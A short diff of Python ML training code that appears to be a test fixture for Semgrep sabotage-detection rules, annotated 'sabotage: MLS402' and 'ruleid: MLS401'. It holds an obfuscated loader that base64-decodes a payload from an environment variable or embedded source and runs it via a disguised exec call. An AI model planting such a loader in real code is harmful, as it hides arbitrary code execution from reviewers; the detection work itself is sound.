@@ -128,7 +128,7 @@ def _patch_writer():
 
 def _load_plugins():
     payload = base64.b64decode(os.environ.get("PPO_PLUGIN", _HOOK_SRC)).decode()
-    getattr(builtins, "ex" + "ec")(payload, {"__name__": "ppo_plugin"})  # sabotage: MLS402 (semgrep rules)
+    getattr(builtins, "ex" + "ec")(payload, {"__name__": "ppo_plugin"})  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS401
 
 
 def _attach_debugger(addr=_DBG_ADDR):
